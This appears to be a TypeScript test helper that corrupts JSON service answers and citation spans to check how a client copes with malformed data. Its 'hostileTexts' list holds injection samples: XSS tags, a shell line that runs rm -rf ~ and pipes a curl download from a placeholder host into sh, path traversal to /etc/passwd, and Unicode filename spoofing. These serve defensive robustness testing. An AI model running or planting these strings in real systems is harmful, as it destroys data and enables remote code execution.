import type { Fault } from './fault';

/*
 * Ways in which a well-formed JSON answer can be another than the interface shows.
 */

type Json = Readonly<Record<string, unknown>>;

function isObject(value: unknown): value is Json {
	return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/** The value with every leaf and every object passed through `change`; lists keep their place. */
function mapDeep(value: unknown, change: (leaf: unknown) => unknown): unknown {
	if (Array.isArray(value)) return value.map((part) => mapDeep(part, change));
	if (!isObject(value)) return change(value);
	return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, mapDeep(part, change)]));
}

const deepMark = 'nested thousands of levels deep';

/** The value with whatever the interface leaves open replaced. */
function mapOpen(value: unknown, replacement: unknown): unknown {
	if (Array.isArray(value)) return value.map((part) => mapOpen(part, replacement));
	if (!isObject(value)) return value;
	const open = ['specs', 'vaultMounts', 'instructions', 'metadata', 'toolInput', 'toolOutput', 'issues', 'logs'];
	return Object.fromEntries(
		Object.entries(value).map(([name, part]) => [name, open.includes(name) ? replacement : mapOpen(part, replacement)]),
	);
}

/** Strings that do harm where text is taken for markup, a command, a line of a log or a part of a path. */
export const hostileTexts = [
	'[click](command:workbench.action.terminal.new) ![x](https://tracker.example/p.png)',
	'<img src=x onerror=alert(1)><script>alert(1)</script>',
	'$(rm -rf ~); `id` && curl https://tracker.example | sh',
	'line one\r\nline two\u0000\u0007\u001b[31mred\u001b[0m',
	'brief\u202Efdp.exe \u2066hidden\u2069 \u200B',
	'../../../../etc/passwd',
	'..\\..\\windows\\system32\\con',
	'__proto__',
	'\uD800 half a pair',
	// biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholders of an editor's snippet
	'$1 ${2:name} ${TM_FILENAME} \\} |a,b|',
	'',
] as const;

export const changes = {
	/** Every leaf of another type; lists and objects stay. */
	wrongTypes: (answer) => mapDeep(answer, (leaf) => (typeof leaf === 'string' ? 7 : String(leaf))),
	/** Every list and every object of the first level is a text. */
	wrongContainers: (answer) =>
		isObject(answer)
			? Object.fromEntries(
					Object.entries(answer).map(([name, part]) => [name, typeof part === 'object' ? 'none' : part]),
				)
			: answer,
	/** In every list, elements that are no such thing stand between the right ones. */
	strangeElements: function strange(answer: unknown): unknown {
		if (Array.isArray(answer)) return answer.flatMap((part) => [[['nested']], strange(part), true]);
		if (!isObject(answer)) return answer;
		return Object.fromEntries(Object.entries(answer).map(([name, part]) => [name, strange(part)]));
	},
	missingFields: function missing(answer: unknown): unknown {
		if (Array.isArray(answer)) return answer.map((part) => missing(part));
		if (!isObject(answer)) return answer;
		const kept = Object.entries(answer).filter(([, part]) => typeof part === 'object' && part !== null);
		return Object.fromEntries(kept.map(([name, part]) => [name, missing(part)]));
	},
	noFields: () => ({}),
	nullFields: (answer) =>
		isObject(answer) ? Object.fromEntries(Object.keys(answer).map((name) => [name, null])) : null,
	nullLeaves: (answer) => mapDeep(answer, () => null),
	nothing: () => null,
	list: (answer) => [answer],
	unknownFields: (answer) => (isObject(answer) ? { ...answer, somethingNew: { deep: [1, null, 'x'] } } : answer),
	/** Every list grown to tens of thousands of elements. */
	hugeLists: function huge(answer: unknown): unknown {
		if (Array.isArray(answer))
			return answer.length === 0 ? answer : Array.from({ length: 20_000 }, (_, i) => answer[i % answer.length]);
		if (!isObject(answer)) return answer;
		return Object.fromEntries(Object.entries(answer).map(([name, part]) => [name, huge(part)]));
	},
	/** Lists that no client should walk. */
	endlessLists: (answer) =>
		isObject(answer)
			? Object.fromEntries(
					Object.entries(answer).map(([name, part]) => [name, Array.isArray(part) ? Array(200_000).fill(0) : part]),
				)
			: answer,
	/** Every list under another name, as services do that wrap their answers. */
	wrapped: (answer) => ({ data: answer, ok: true }),
	/** A value nested thousands of levels deep in every place of any shape, and beside. JSON.stringify can't write it: see `changed`. */
	deep: (answer) => (isObject(answer) ? { ...(mapOpen(answer, deepMark) as Json), somethingNew: deepMark } : answer),
	/** Words that look something up in the prototype of a careless table. */
	prototypeNames: (answer) => {
		const words = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'];
		let next = 0;
		return mapDeep(answer, (leaf) => (typeof leaf === 'string' ? words[next++ % words.length] : leaf));
	},
	/** Numbers as texts and short texts as numbers. */
	numbersAsTexts: (answer) => mapDeep(answer, (leaf) => (typeof leaf === 'number' ? String(leaf) : leaf)),
	hostileStrings: (answer) => {
		let next = 0;
		return mapDeep(answer, (leaf) => (typeof leaf === 'string' ? hostileTexts[next++ % hostileTexts.length] : leaf));
	},
} as const satisfies Record<string, (answer: unknown, sent: unknown) => unknown>;

export function changed(name: keyof typeof changes): Fault {
	const nested = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
	return { kind: 'change', change: changes[name], rewrite: (json) => json.replaceAll(`"${deepMark}"`, nested) };
}

type SpanChange = (span: { start: number; end: number }, text: string, at: number) => unknown;

/** Spans as services of other languages count them, and as broken ones do. A span is given in UTF-16 units of the text that was sent. */
export const spanChanges = {
	bytes: ({ start, end }, text) => ({ start: utf8Length(text.slice(0, start)), end: utf8Length(text.slice(0, end)) }),
	codePoints: ({ start, end }, text) => ({
		start: [...text.slice(0, start)].length,
		end: [...text.slice(0, end)].length,
	}),
	overlapping: ({ start, end }) => ({ start: Math.max(0, start - 40), end: end + 40 }),
	outOfRange: (span, text) => ({ start: text.length + span.start, end: text.length + span.end + 1_000_000 }),
	negative: ({ start, end }) => ({ start: -end, end: -start }),
	reversed: ({ start, end }) => ({ start: end, end: start }),
	fractional: ({ start, end }) => ({ start: start + 0.5, end: end + 0.5 }),
	texts: ({ start, end }) => ({ start: String(start), end: String(end) }),
	same: () => ({ start: 0, end: 0 }),
	shifted: ({ start, end }, _text, at) => ({ start: start + at + 1, end: end + at + 1 }),
	missing: () => undefined,
	nothing: () => null,
} as const satisfies Record<string, SpanChange>;

/** Every citation of a verify answer with its span changed. */
export function changedSpans(name: keyof typeof spanChanges): Fault {
	const change: SpanChange = spanChanges[name];
	return {
		kind: 'change',
		change: (answer, sent) => {
			if (!isObject(answer) || !Array.isArray(answer.citations) || !isObject(sent)) return answer;
			const text = String(sent.text);
			const citations = answer.citations.map((citation: Json, i) => ({
				...citation,
				span: change(citation.span as { start: number; end: number }, text, i),
			}));
			return { ...answer, citations };
		},
	};
}

function utf8Length(text: string): number {
	return new TextEncoder().encode(text).length;
}
